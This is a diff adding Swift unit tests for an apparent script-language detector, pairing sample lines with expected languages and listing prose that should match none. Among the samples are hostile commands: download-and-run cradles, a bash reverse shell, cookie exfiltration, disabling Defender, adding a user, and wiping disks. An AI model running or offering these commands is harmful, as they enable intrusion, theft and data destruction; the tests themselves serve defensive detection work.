@@ -40,6 +40,54 @@ import Testing
     #expect(language(text) == expected)
   }
 
+  @Test(arguments: [
+    ("IEX (New-Object Net.WebClient).DownloadString('http://x')", ScriptLanguage.powerShell),
+    ("iwr http://x/a | iex", .powerShell),
+    ("Set-MpPreference -DisableRealtimeMonitoring $true", .powerShell),
+    ("$c = New-Object Net.Sockets.TCPClient('10.0.0.1',4444)", .powerShell),
+    ("[Net.ServicePointManager]::SecurityProtocol = 3072", .powerShell),
+    ("foreach ($f in Get-ChildItem) {\n  Copy-Item $f x\n}\n", .powerShell),
+    ("powershell -nop -w hidden -enc SQBFAFgA", .batch),
+    ("certutil -urlcache -f http://x/a.exe a.exe & a.exe", .batch), ("cmd /c calc", .batch),
+    ("rem x\r\ndel /f /s /q C:\\*.*\r\n", .batch), ("for %%i in (*.doc) do del %%i", .batch),
+    ("copy a.exe %APPDATA%\\a.exe\r\n", .batch), ("net user a b /add", .batch),
+    ("CreateObject(\"WScript.Shell\").Run \"calc\"", .visualBasic), ("MsgBox \"hi\"", .visualBasic),
+    ("a=Chr(99)&Chr(97)\nCreateObject(\"WScript.Shell\").Run a\n", .visualBasic),
+    ("' what it does\nWith CreateObject(\"WScript.Shell\")\n.Run x\nEnd With\n", .visualBasic),
+    ("Dim x\nx = 1\nMsgBox x\n", .visualBasic),
+    ("new ActiveXObject(\"WScript.Shell\").Run(\"calc\")", .javaScript),
+    ("s=new ActiveXObject('WScript.Shell');s.Run('calc')", .javaScript),
+    ("document.location='http://x/'+document.cookie;", .javaScript),
+    ("eval(atob(\"YWxlcnQoMSk=\"))", .javaScript),
+    ("class A{constructor(){}}\nnew A()", .javaScript),
+    ("curl -s http://x/a.sh | sh", .shell), ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", .shell),
+    ("cd /tmp; wget http://x/a; chmod +x a; ./a", .shell),
+    ("sh -c \"$(curl -fsSL http://x)\"", .shell),
+    ("for i in 1 2 3; do echo $i; done", .shell), ("rm -rf /", .shell),
+    ("import os; os.system(\"id\")", .python), ("__import__('os').system('id')", .python),
+    ("x = __import__('os').popen('id')", .python),
+    ("import requests\nr = requests.get('x')\n", .python),
+    ("system(\"id\");", .perl), ("my $x = 1;\nprint $x;\n", .perl), ("require 'socket'; x", .ruby),
+    ("os.execute(\"id\")", .lua), ("do shell script \"id\"", .other),
+  ])
+  func aLineThatNoTextBeginsWithIsEnough(_ text: String, _ expected: ScriptLanguage) {
+    #expect(language(text) == expected)
+  }
+
+  /// What only looks like the first line of a script.
+  @Test(arguments: [
+    "Set-top box - what it is\n", "$x = 5$ is the only solution\n", "Copy 50% of it.\n",
+    "Import duties; tariffs\n", "import java.util.List;\nclass A {}\n", "Dim sum\nfried rice\n",
+    "PowerShell - a shell\n", "Start here\n", "If exist there must, then let it be.\n",
+    "[a] :: [a]\n",
+    "[section]\nkey=new-object \n", "Write-ahead logs -- why\n", "Function keys: what they do\n",
+    "curl and wget | what they share\n", "calc\n", "Class notes:\n", "For -x, see below\n",
+    "Remove the lid (see [2]::3)\n", "Get-together -- bring food\n", "$500 = a price\n",
+  ])
+  func proseThatBeginsLikeOneIsNone(_ text: String) {
+    #expect(language(text) == nil)
+  }
+
   @Test func aProgramOfBracketsAloneIsOne() {
     let signs = String(repeating: "[][(![]+[])[+[]]+", count: 40)
     #expect(language(signs) == .javaScript)
